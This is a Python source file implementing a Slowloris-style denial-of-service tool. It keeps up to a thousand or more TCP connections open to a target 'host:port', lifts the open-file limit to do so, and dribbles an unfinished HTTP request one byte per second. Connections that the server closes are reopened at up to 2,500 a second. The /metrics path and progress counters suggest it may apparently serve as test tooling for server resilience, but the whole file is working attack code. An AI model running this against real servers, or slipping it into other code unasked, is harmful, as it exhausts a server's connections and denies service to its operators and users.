"""Connections that send a request byte by byte, and never end it."""

import collections
import resource
import selectors
import socket
import threading
import time

OPENED_AT_ONCE = 50   # 50 times a second at most
REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "


class Slowloris:
    """Wants `connections` to "host:port", each sending a byte a second; those that the other side closes are opened
    again, up to 2 500 a second. `arrived` is set once so many were opened.

    `opened` counts connects, `closed` how often the other side closed; both only grow.
    """

    def __init__(self, address, connections=1000):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < connections + 200:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, connections + 200), hard))
        host, port = address.rsplit(":", 1)
        self._target = (host.strip("[]"), int(port))
        self._wanted = connections
        self._selector = selectors.DefaultSelector()
        self._due = collections.deque()   # (time, socket, bytes sent), the earliest first
        self.opened = self.closed = 0
        self.arrived = threading.Event()
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _open(self):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(self._target)
        self._selector.register(sock, selectors.EVENT_READ)
        self._due.append((time.monotonic() + 0.05, sock, 0))
        self.opened += 1

    def _drop(self, sock):
        self._selector.unregister(sock)
        sock.close()
        self.closed += 1

    def _run(self):
        while not self._over.is_set():
            if len(self._selector.get_map()) < self._wanted:
                for _ in range(min(OPENED_AT_ONCE, self._wanted - len(self._selector.get_map()))):
                    self._open()
                self._over.wait(0.02)   # more would only fill the kernel with connections that were closed
            if self.opened >= self._wanted:
                self.arrived.set()
            for key, _ in self._selector.select(0.02):
                self._drop(key.fileobj)   # it answers nothing: whatever comes is the end
            now = time.monotonic()
            while self._due and self._due[0][0] <= now:
                self._send(*self._due.popleft()[1:], now)

    def _send(self, sock, sent, now):
        if sock.fileno() < 0:
            return
        try:
            sock.send(REQUEST[sent:sent + 1] or b"a")
        except BlockingIOError:
            sent -= 1   # still on its way
        except OSError:
            self._drop(sock)
            return
        self._due.append((now + 1, sock, sent + 1))

    def close(self):
        self._over.set()
        self._thread.join(10)
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()
